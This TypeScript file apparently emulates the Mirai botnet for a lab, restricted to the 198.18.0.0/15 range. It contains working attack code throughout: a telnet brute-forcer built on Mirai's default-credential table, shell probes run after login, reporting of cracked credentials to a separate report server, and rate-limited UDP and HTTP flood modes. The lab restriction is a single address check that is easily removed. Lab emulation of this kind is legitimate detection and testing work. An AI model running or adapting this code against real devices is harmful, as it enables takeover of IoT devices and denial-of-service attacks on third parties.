/**
 * The Mirai-style bot's socket parts (raw packets are in raw.py):
 *
 *   mirai.ts bruteforce --targets IP,IP --attempts N --seconds S
 *     telnet logins with Mirai's credential table (one credential per connection, as its scanner does); on a shell
 *     it types Mirai's loader probes and reports the login to the report server (TCP 48101), then leaves the host.
 *   mirai.ts udp --target IP --pps R --seconds S        "udpplain": connected UDP sockets, 512 random bytes
 *   mirai.ts http --target IP --conns N --seconds S     "http": 1–5 keep-alive GETs per connection with Mirai's user agents
 *
 * Bounded by --seconds (and --attempts); refuses targets outside 198.18.0.0/15.
 */
import { createSocket } from 'node:dgram';
import { connect, type Socket } from 'node:net';
import { randomBytes } from 'node:crypto';

/** Mirai's table (scanner.c, as published in 2016): user, password. */
export const MIRAI_CREDENTIALS: ReadonlyArray<readonly [string, string]> = [
  ['root', 'xc3511'], ['root', 'vizxv'], ['root', 'admin'], ['admin', 'admin'], ['root', '888888'], ['root', 'xmhdipc'],
  ['root', 'default'], ['root', 'juantech'], ['root', '123456'], ['root', '54321'], ['support', 'support'], ['root', ''],
  ['admin', 'password'], ['root', 'root'], ['root', '12345'], ['user', 'user'], ['admin', ''], ['root', 'pass'],
  ['admin', 'admin1234'], ['root', '1111'], ['admin', 'smcadmin'], ['admin', '1111'], ['root', '666666'],
  ['root', 'password'], ['root', '1234'], ['root', 'klv123'], ['Administrator', 'admin'], ['service', 'service'],
  ['supervisor', 'supervisor'], ['guest', 'guest'], ['guest', '12345'], ['admin1', 'password'],
  ['administrator', '1234'], ['666666', '666666'], ['888888', '888888'], ['ubnt', 'ubnt'], ['root', 'klv1234'],
  ['root', 'Zte521'], ['root', 'hi3518'], ['root', 'jvbzd'], ['root', 'anko'], ['root', 'zlxx.'],
  ['root', '7ujMko0vizxv'], ['root', '7ujMko0admin'], ['root', 'system'], ['root', 'ikwb'], ['root', 'dreambox'],
  ['root', 'user'], ['root', 'realtek'], ['root', '00000000'], ['admin', '1111111'], ['admin', '1234'],
  ['admin', '12345'], ['admin', '54321'], ['admin', '123456'], ['admin', '7ujMko0admin'], ['admin', 'pass'],
  ['admin', 'meinsm'], ['tech', 'tech'], ['mother', 'fucker'],
];

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7',
];
const REPORT = { host: '198.19.66.1', port: 48101 };

function opt(name: string, dflt?: string): string {
  const i = process.argv.indexOf(`--${name}`);
  const v = i >= 0 ? process.argv[i + 1] : dflt;
  if (v === undefined) throw new Error(`--${name} is required`);
  return v;
}

function inLab(ip: string): boolean {
  const [a, b] = ip.split('.').map(Number);
  return a === 198 && (b === 18 || b === 19);
}

/** One telnet login attempt; resolves true when a shell prompt came back. */
function tryLogin(host: string, user: string, pass: string): Promise<boolean> {
  return new Promise((resolve) => {
    const s: Socket = connect(23, host);
    let step = 0;
    let seen = '';
    const finish = (ok: boolean) => {
      s.destroy();
      resolve(ok);
    };
    s.setTimeout(5000, () => finish(false));
    s.on('error', () => finish(false));
    s.on('close', () => resolve(false));
    s.on('data', (d: Buffer) => {
      // Mirai answers every telnet option request with "won't"/"don't" before the login prompt.
      const refusals: number[] = [];
      for (let i = 0; i + 2 < d.length; i++) if (d[i] === 255 && d[i + 1] >= 251) refusals.push(255, d[i + 1] === 253 ? 252 : 254, d[i + 2]);
      if (refusals.length) s.write(Buffer.from(refusals));
      seen = (seen + d.toString('latin1')).slice(-256);
      if (step === 0 && /ogin|enter/i.test(seen)) s.write(`${user}\r\n`), (step = 1), (seen = '');
      else if (step === 1 && /assword/i.test(seen)) s.write(`${pass}\r\n`), (step = 2), (seen = '');
      else if (step === 2 && /incorrect|fail|denied|ogin:/i.test(seen)) finish(false);
      else if (step === 2 && /[#$>%]\s*$/.test(seen)) {
        s.write('enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n');
        step = 3;
      } else if (step === 3 && /MIRAI: applet not found/.test(seen)) {
        s.end();
        resolve(true);
      }
    });
  });
}

function report(host: string, user: string, pass: string): void {
  const s = connect(REPORT.port, REPORT.host, () => {
    const b = Buffer.alloc(7 + user.length + pass.length);
    b[0] = 0;
    Buffer.from(host.split('.').map(Number)).copy(b, 1);
    b.writeUInt16BE(23, 5);
    b.write(user + pass, 7);
    s.end(b);
  });
  s.on('error', () => s.destroy());
}

async function bruteforce(targets: string[], attempts: number, until: number): Promise<void> {
  let tries = 0;
  let found = 0;
  await Promise.all(
    targets.flatMap((host) =>
      // Four connections at a time per host, like the scanner's parallel slots.
      Array.from({ length: 4 }, async () => {
        for (let n = 0; n < attempts / 4 && Date.now() < until; n++) {
          const [u, p] = MIRAI_CREDENTIALS[Math.floor(Math.random() * MIRAI_CREDENTIALS.length)];
          tries++;
          if (await tryLogin(host, u, p)) {
            found++;
            report(host, u, p);
            return;
          }
        }
      }),
    ),
  );
  console.log(`bruteforce: ${tries} logins tried, ${found} shells`);
}

async function udpFlood(target: string, pps: number, until: number): Promise<void> {
  const socks = Array.from({ length: 8 }, () => {
    const s = createSocket('udp4');
    s.on('error', () => {});
    s.connect(1 + Math.floor(Math.random() * 65534), target);
    return s;
  });
  await new Promise((r) => setTimeout(r, 200));
  const payload = randomBytes(512);
  const start = Date.now();
  let sent = 0;
  while (Date.now() < until) {
    const due = Math.floor(((Date.now() - start) / 1000) * pps);
    for (; sent < due; sent++) socks[sent % socks.length].send(payload);
    await new Promise((r) => setTimeout(r, 10));
  }
  socks.forEach((s) => s.close());
  console.log(`udp: ${sent} datagrams`);
}

async function httpFlood(target: string, conns: number, until: number): Promise<void> {
  let requests = 0;
  const one = () =>
    new Promise<void>((resolve) => {
      const s = connect(80, target);
      let inFlight = 0;
      // A connection carries a few requests, then the bot opens a new one (a new flow each time).
      let left = 1 + Math.floor(Math.random() * 5);
      const send = () => {
        if (Date.now() >= until || inFlight > 0) return;
        if (left-- <= 0) return void s.end();
        const ua = USER_AGENTS[Math.floor(Math.random() * USER_AGENTS.length)];
        s.write(`GET / HTTP/1.1\r\nUser-Agent: ${ua}\r\nHost: ${target}\r\nConnection: keep-alive\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.8\r\n\r\n`);
        inFlight++;
        requests++;
      };
      s.setTimeout(5000, () => s.destroy());
      s.on('connect', send);
      s.on('data', () => {
        inFlight = 0;
        if (Date.now() < until) setTimeout(send, 5);
        else s.end();
      });
      s.on('error', () => s.destroy());
      s.on('close', () => resolve());
    });
  await Promise.all(
    Array.from({ length: conns }, async () => {
      while (Date.now() < until) await one();
    }),
  );
  console.log(`http: ${requests} requests`);
}

async function main(): Promise<void> {
  const mode = process.argv[2];
  const until = Date.now() + Number(opt('seconds')) * 1000;
  const targets = (mode === 'bruteforce' ? opt('targets') : opt('target')).split(',');
  if (!targets.every(inLab)) throw new Error(`targets ${targets.join(',')}: only lab addresses (198.18.0.0/15)`);
  if (mode === 'bruteforce') await bruteforce(targets, Number(opt('attempts', '60')), until);
  else if (mode === 'udp') await udpFlood(targets[0], Math.min(20_000, Number(opt('pps', '2000'))), until);
  else if (mode === 'http') await httpFlood(targets[0], Math.min(64, Number(opt('conns', '8'))), until);
  else throw new Error(`mode ${mode}: expected bruteforce, udp or http`);
  process.exit(0);
}

main().catch((e: Error) => {
  process.stderr.write(`mirai: ${e.message}\n`);
  process.exit(2);
});
